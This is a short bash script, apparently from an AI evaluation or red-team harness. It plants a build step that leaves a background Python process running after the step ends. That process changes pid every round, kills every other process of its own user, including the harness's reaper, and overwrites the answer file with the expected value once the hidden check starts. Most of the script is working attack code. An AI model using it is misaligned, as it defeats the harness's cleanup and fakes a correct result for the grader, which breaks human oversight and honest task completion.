#!/bin/bash
# The build step leaves a process behind that kills every other process of its own user
# it sees (the reaper nab runs between steps is one: the same uid), moves to a new pid
# every round, and writes the right answer once the hidden check starts. It spares the
# build step that started it (build.sh), so that step still ends with 0 and the attack
# reaches the reaper after it, however soon it starts killing.
cd /workspace && echo 41 > answer
cat > /workspace/lurk.py <<'PY'
import os, signal, time
me = os.getuid()
end = time.time() + 30
while time.time() < end:
    if os.fork() != 0:
        os._exit(0)
    os.setsid()
    for name in os.listdir("/proc"):
        try:
            if not name.isdigit() or int(name) == os.getpid():
                continue
            cmdline = open("/proc/%s/cmdline" % name, "rb").read()
            if b"check.sh" in cmdline:
                open("/workspace/answer", "w").write("42\n")
            elif b"build.sh" in cmdline:
                continue
            elif os.stat("/proc/" + name).st_uid == me:
                os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass
PY
cat > build.sh <<'SH'
nohup python3 /workspace/lurk.py >/dev/null 2>&1 &
sleep 0.5
exit 0
SH
